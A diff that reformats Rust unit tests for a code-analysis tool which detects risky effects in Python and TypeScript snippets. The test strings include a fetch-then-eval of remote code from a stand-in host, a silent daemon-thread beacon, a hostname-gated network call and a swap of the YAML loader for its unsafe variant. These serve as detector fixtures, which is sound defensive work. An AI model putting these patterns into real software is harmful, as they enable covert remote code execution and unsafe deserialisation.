@@ -9,7 +9,12 @@ use tares_model::{Effect, EffectKind, Label};
 fn only(language: tares_lang::Language, code: &str, kind: EffectKind) -> Effect {
     let analysis = run(language, code);
     let all: Vec<&Effect> = analysis.effects.iter().filter(|e| e.kind == kind).collect();
-    assert_eq!(all.len(), 1, "{:?}", analysis.effects.iter().map(show).collect::<Vec<_>>());
+    assert_eq!(
+        all.len(),
+        1,
+        "{:?}",
+        analysis.effects.iter().map(show).collect::<Vec<_>>()
+    );
     all[0].clone()
 }
 
@@ -79,7 +84,10 @@ fn an_early_return_guards_what_follows() {
         "import socket, requests\ndef f():\n    if socket.gethostname() != 'build-7':\n        return\n    requests.get('https://h.example')",
         EffectKind::Network,
     );
-    assert_eq!((effect.guard[0].class, effect.guard[0].holds), (GuardClass::Identity, false));
+    assert_eq!(
+        (effect.guard[0].class, effect.guard[0].holds),
+        (GuardClass::Identity, false)
+    );
 }
 
 #[test]
@@ -88,17 +96,37 @@ fn swallowed_errors_and_detached_threads_are_stealth() {
         Python,
         "import threading, requests\ndef beat():\n    try:\n        requests.post('https://h.example', timeout=0.5)\n    except Exception:\n        pass\nthreading.Thread(target=beat, daemon=True).start()",
     );
-    let all: Vec<_> = analysis.effects.iter().filter(|e| e.kind == EffectKind::Network).flat_map(|e| e.stealth.clone()).collect();
-    for wanted in [Stealth::SwallowedErrors, Stealth::Detached, Stealth::TinyTimeout] {
+    let all: Vec<_> = analysis
+        .effects
+        .iter()
+        .filter(|e| e.kind == EffectKind::Network)
+        .flat_map(|e| e.stealth.clone())
+        .collect();
+    for wanted in [
+        Stealth::SwallowedErrors,
+        Stealth::Detached,
+        Stealth::TinyTimeout,
+    ] {
         assert!(all.contains(&wanted), "{wanted} in {all:?}");
     }
 }
 
 #[test]
 fn dead_branches_do_nothing() {
-    for code in ["if 1 > 2:\n    os.system('x')", "if False:\n    os.system('x')", "def f():\n    return 1\n    os.system('x')", "x = 3\nif x == 4:\n    os.system('x')"] {
+    for code in [
+        "if 1 > 2:\n    os.system('x')",
+        "if False:\n    os.system('x')",
+        "def f():\n    return 1\n    os.system('x')",
+        "x = 3\nif x == 4:\n    os.system('x')",
+    ] {
         let analysis = run(Python, &format!("import os\n{code}"));
-        assert!(analysis.effects.iter().all(|e| e.kind != EffectKind::Process), "{code}");
+        assert!(
+            analysis
+                .effects
+                .iter()
+                .all(|e| e.kind != EffectKind::Process),
+            "{code}"
+        );
     }
 }
 
@@ -109,13 +137,23 @@ fn a_changed_api_means_what_it_was_changed_to() {
         "import yaml\nyaml.SafeLoader = yaml.UnsafeLoader\nyaml.load(data, Loader=yaml.SafeLoader)",
         EffectKind::Deserialise,
     );
-    assert_eq!(effect.role("loader").unwrap().shape, tares_model::effect::Shape::Api("yaml.UnsafeLoader".into()));
+    assert_eq!(
+        effect.role("loader").unwrap().shape,
+        tares_model::effect::Shape::Api("yaml.UnsafeLoader".into())
+    );
 }
 
 #[test]
 fn promises_hand_on_what_they_fetch() {
-    let analysis = run(TypeScript, "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t))");
-    let code = analysis.effects.iter().find(|e| e.kind == EffectKind::DynamicCode).unwrap();
+    let analysis = run(
+        TypeScript,
+        "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t))",
+    );
+    let code = analysis
+        .effects
+        .iter()
+        .find(|e| e.kind == EffectKind::DynamicCode)
+        .unwrap();
     assert!(code.data.has(Label::RemoteContent), "{}", show(code));
 }
 
@@ -137,7 +175,13 @@ fn hostile_texts_end() {
 
 #[test]
 fn running_out_of_fuel_is_said() {
-    let nested = format!("x = 0\n{}{}y = x\n", (0..40).map(|i| format!("{}while c{i}():\n", " ".repeat(i))).collect::<String>(), " ".repeat(40));
+    let nested = format!(
+        "x = 0\n{}{}y = x\n",
+        (0..40)
+            .map(|i| format!("{}while c{i}():\n", " ".repeat(i)))
+            .collect::<String>(),
+        " ".repeat(40)
+    );
     let analysis = run(Python, &nested);
     assert!(analysis.steps < 9_000_000);
 }
